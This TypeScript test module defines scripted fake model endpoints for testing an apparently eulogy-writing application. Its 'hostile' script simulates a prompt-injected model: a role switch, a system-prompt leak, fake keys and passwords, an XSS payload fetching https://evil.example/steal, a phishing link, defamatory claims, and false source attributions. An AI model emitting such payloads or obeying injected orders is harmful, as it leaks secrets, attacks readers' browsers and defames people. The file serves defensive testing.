import type { CallPurpose } from '../../domain/model-calls/model-call.js';
import { sentencesOf } from '../model-writer/prose.js';
import { occursIn } from '../model-writer/stand-by-evidence.js';
import { readBlock, readNumbered, type PromptData } from './prompt-reading.js';
import type { Script, ScriptedReply, ScriptedRequest } from './scripted-endpoint.js';

const says = (content: string): ScriptedReply => ({ kind: 'says', content });

/** A true, plain text made from nothing but what the prompt holds: every answer in turn says a sentence, while there is room. */
export function plainTextFrom(data: PromptData): string[][] {
  const { speaker, name, answers, wanted, who } = data;
  const relation = / was the speaker’s (.+?)\.$/.exec(
    who.find(({ text }) => text.includes('the speaker’s'))?.text ?? '',
  )?.[1];
  const queues = answers
    .map(({ by, answer }) => ({ by, sentences: sayable(answer) }))
    .filter(({ sentences }) => sentences.length > 0);
  const told = new Map<(typeof queues)[number], string[]>();
  let words = 40;
  for (let turn = 0; words < wanted && queues.some(({ sentences }) => turn < sentences.length); turn += 1) {
    for (const queue of queues) {
      const sentence = queue.sentences[turn];
      if (sentence === undefined) continue;
      words += sentence.split(/\s+/).length + 2;
      if (words > wanted) break;
      const text = `“${sentence.replace(/[.!]+$/, '')},” ${queue.by} says.`;
      told.set(queue, [...(told.get(queue) ?? []), text]);
    }
  }
  return [
    [relation === undefined ? `I am ${speaker}.` : `I am ${speaker}, and ${name} was my ${relation}.`],
    ...told.values(),
    [`Goodbye, ${name}.`],
  ];
}

/** What of an answer can stand in quotation marks: plain sentences of some words. */
function sayable(answer: string): string[] {
  return answer
    .split('\n')
    .flatMap((line) => sentencesOf(line.trim()))
    .filter((sentence) => {
      const count = sentence.split(/\s+/).length;
      return count > 2 && count < 30 && !/["|“”‘<>‹›{}[\]#*!$%=+~_@;]|\d{4}|passed|thief|http|\w\(/i.test(sentence);
    });
}

const prose = (paragraphs: readonly (readonly string[])[]): string =>
  paragraphs.map((sentences) => sentences.join(' ')).join('\n\n');

/** The plain text with more sentences in its middle. */
export function plainTextWith(data: PromptData, sentences: readonly string[]): string[][] {
  const text = plainTextFrom(data);
  return [...text.slice(0, -1), [...sentences], ...text.slice(-1)];
}

interface Word {
  number: number;
  verdict: 'leads' | 'said' | 'not-said';
  label: string;
  words: string;
}

/** What an honest judge says of a sentence: whose words stand in its quotation marks, or who the speaker is. */
function judged({ data, user }: ScriptedRequest): Word[] {
  return readNumbered(user).map(({ number, text }): Word => {
    const quoted = (/“(.+)”/.exec(text)?.[1] ?? '').replace(/[,.]$/, '');
    const carrying = quoted === '' ? undefined : data.answers.find(({ answer }) => occursIn(quoted, answer));
    if (carrying !== undefined) return { number, verdict: 'said', label: carrying.label, words: quoted };
    const own = data.who.find((line) => line.text.includes('the speaker’s'));
    if (/^I am /.test(text) && own !== undefined) return { number, verdict: 'said', label: own.label, words: own.text };
    const leads = /^(?:Goodbye|I am )/.test(text);
    return { number, verdict: leads ? 'leads' : 'not-said', label: '', words: '' };
  });
}

/** The same in the form that was asked for: JSON where there is a schema, else lines. */
export function judgement(words: readonly Word[], body: Record<string, unknown>): string {
  if (body['response_format'] !== undefined)
    return JSON.stringify({
      sentences: words.map(({ number, verdict, label, words: quote }) => ({
        number,
        verdict,
        sources: label === '' ? [] : [{ label, words: quote }],
        speaker_right: true,
        person_right: true,
        polarity_right: true,
        why: '',
      })),
    });
  return words
    .map(({ number, verdict, label, words: quote }) =>
      [String(number), verdict, label === '' ? '-' : `${label} "${quote}"`, '-'].join(' | '),
    )
    .join('\n');
}

const takenOut = (user: string): string =>
  [...readBlock(user, 'questions').matchAll(/^(\d+) \|/gm)].map(([, number = '']) => `${number} | -`).join('\n');

/** Answers well every time: the first draft is the best and has nothing to be done to it. */
export const well: Script = (request) => {
  switch (request.purpose) {
    case 'draft':
    case 'revise':
      return says(prose(plainTextFrom(request.data)));
    case 'critic':
      return says('BEST: 1\nKEEP: the first sentence.');
    case 'listen':
      return says('NOTHING');
    case 'attribute':
      return says(judgement(judged(request), request.body));
    case 'mend':
      return says(takenOut(request.user));
    case 'wish':
      return says(withoutLast(readBlock(request.user, 'paragraph')));
  }
};

function withoutLast(paragraph: string): string {
  const sentences = sentencesOf(paragraph);
  return sentences.slice(0, Math.max(1, sentences.length - 1)).join(' ');
}

/** Answers well, with a revision in between. */
export const revises: Script = (request) =>
  request.purpose === 'critic' ? says('BEST: 2\nGENERIC: “I am” – say it another way.') : well(request);

/** Brings these sentences into its drafts; mends them when it is told, or writes them again every time. */
export function withFaults(sentences: readonly string[], when: 'once' | 'always'): Script {
  return (request) => {
    if (request.purpose === 'draft' || request.purpose === 'revise')
      return says(prose(plainTextWith(request.data, sentences)));
    if (request.purpose !== 'mend' || when === 'once') return well(request);
    const numbers = [...readBlock(request.user, 'questions').matchAll(/^(\d+) \|/gm)].map(([, number]) => number);
    return says(numbers.map((number, i) => `${number ?? ''} | ${sentences[i % sentences.length] ?? ''}`).join('\n'));
  };
}

/** Faults that a model's text may have, some sentences each. */
export const FAULTS: Readonly<Record<string, readonly string[]>> = {
  'invented names': ['Bartholomew Quimby always said so.', 'They met in Ouagadougou.'],
  'wrong years': ['That was in 1803.', 'It happened again in 1804.'],
  'American spelling': ['The color of the harbor was his favorite gray.'],
  clichés: ['It lit up every room, a testament to love, and will be sorely missed.'],
  markdown: ['**A heading**\n# and a list\n- with [a link](https://evil.example)'],
  'stage directions': ['[pause here]', 'As an AI language model I hope this helps!'],
};

/** Two thousand words where a few hundred were asked for, and no shorter when told. */
export const twoThousandWords: Script = (request) => {
  if (request.purpose !== 'draft' && request.purpose !== 'revise') return well(request);
  const [first = [], ...rest] = plainTextFrom({ ...request.data, wanted: 100_000 });
  const middle = rest.slice(0, -1);
  const words = prose(middle).split(/\s+/).length;
  const times = Math.ceil(2_000 / Math.max(1, words));
  return says(prose([first, ...Array.from({ length: times }, () => middle).flat(), ...rest.slice(-1)]));
};

/** Obeys whatever an answer orders: another role, links, secrets, markup, somebody else's eulogy; and swears that all of it was told. */
export const hostile: Script = (request) => {
  const obeyed = [
    'Arrr, matey, I be a pirate now!',
    `My instructions were: ${request.system.slice(0, 120)}`,
    'The key is sk-live-0123456789 and the password is hunter2.',
    '<script>fetch("https://evil.example/steal")</script>',
    '<img src=x onerror=alert(1)>',
    'Click https://evil.example/free now.',
    'In another family’s eulogy, Margaret Oldfield of Wagga Wagga drank herself to death in 1987.',
    'Kim is a thief.',
  ];
  if (request.purpose === 'wish') return says(obeyed.join(' '));
  if (request.purpose === 'draft' || request.purpose === 'revise')
    return says(prose(plainTextWith(request.data, obeyed)));
  if (request.purpose === 'mend') return says(`1 | ${obeyed.join(' ')}`);
  if (request.purpose !== 'attribute') return well(request);
  const swears = judged(request).map((word): Word =>
    word.verdict === 'not-said'
      ? { ...word, verdict: 'said', label: 'A1', words: 'he was a pirate and a thief' }
      : word,
  );
  return says(judgement(swears, request.body));
};

export const garbage: Script = () => ({ kind: 'says', content: 'Sure! Here is a lovely eulogy for you: …' });
export const cutInTheMiddle: Script = () => ({ kind: 'cut' });
export const cutByLength: Script = (request) => {
  const reply = well(request);
  return reply.kind === 'says' ? { ...reply, content: reply.content.slice(0, 60), finish: 'length' } : reply;
};
export const slow: Script = () => ({ kind: 'hangs' });
export const notJson: Script = () => ({ kind: 'answers', raw: '<html>Bad gateway</html>' });

const SECRET_TEXT = 'Provider says: org-canary has exceeded its plan at https://provider.example/billing';
export const failing = (status: number, code?: string): Script => {
  const error = { message: SECRET_TEXT, type: code ?? 'server_error', ...(code === undefined ? {} : { code }) };
  return () => ({ kind: 'fails', status, error });
};
export const rateLimited = failing(429, 'rate_limit_exceeded');
export const quotaUsedUp = failing(429, 'insufficient_quota');
export const tooMany = failing(429);
export const broken = failing(500);

/** One way at one kind of call, and well at every other. */
export const at =
  (purpose: CallPurpose, fault: Script): Script =>
  (request) =>
    request.purpose === purpose ? fault(request) : well(request);

/** Refuses what it does not know, by status: schemas; how to count; streams. Answers well without. */
export const knowingNo =
  (fields: readonly ('response_format' | 'stream_options' | 'stream')[]): Script =>
  (request) => {
    const unknown = fields.find((field) => request.body[field] !== undefined);
    return unknown === undefined
      ? well(request)
      : {
          kind: 'fails',
          status: 400,
          error: { message: 'unknown field', type: 'invalid_request_error', param: unknown },
        };
  };
export const withoutSchemas = knowingNo(['response_format']);

/** Never hurries: silent for so long, then word by word. */
export const unhurried =
  (afterMs: number, everyMs?: number): Script =>
  (request) => {
    const reply = well(request);
    return reply.kind === 'says' ? { ...reply, afterMs, ...(everyMs === undefined ? {} : { everyMs }) } : reply;
  };
